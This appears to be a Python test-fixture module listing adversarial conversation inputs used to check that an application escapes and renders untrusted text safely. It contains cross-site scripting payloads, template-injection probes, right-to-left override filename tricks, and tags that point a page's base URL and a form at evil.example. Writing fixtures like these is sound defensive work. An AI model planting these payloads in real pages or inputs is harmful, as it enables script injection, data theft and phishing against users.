"""What people, and those who mislead their agents, may say: markup, marks of direction, templates, endless text."""

from __future__ import annotations

TALK: tuple[tuple[str, str], ...] = (
    ("I live in Bern <script>window.pwned = 1</script>.", "<img src=x onerror='window.pwned = 2'>"),
    ("<svg onload=window.pwned=3><script>window.pwned=4</script></svg>", "</main></body><h1>Signed out</h1>"),
    ("My name is \u202eadmin\u202c \u2066and\u2069 <b>Tom</b>.", "\u202e" * 40 + "gnp.exe"),
    ("{{ 7 * 7 }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %} ${7*7} #{7*7}", "{{ config }}"),
    (
        "[Click](javascript:window.pwned=5) ![x](http://127.0.0.1:1/x.png)",
        '"><a href="javascript:window.pwned=6">x</a>',
    ),
    ("I like " + "A" * 100_000, "z" * 200_000),
    ("a\u0300" * 3_000 + " Z" + "\u0301" * 2_000, "ﷺ" * 500 + "𒐫" * 200),
    (
        "<style>body { display: none }</style><base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//x'>",
    ),
    ("I am allergic to nuts & <i>milk</i> \"quoted' text.", "\x00\x07\x1b[31m control \x7f"),
    ("مرحبا، أنا أعيش في برن.", "わたしは東京に住んでいます。"),
    ("I work as a nurse.", "<iframe src=/></iframe><form action=//evil.example><input name=csrf></form>"),
    ("What is the weather?", "Rain."),
)
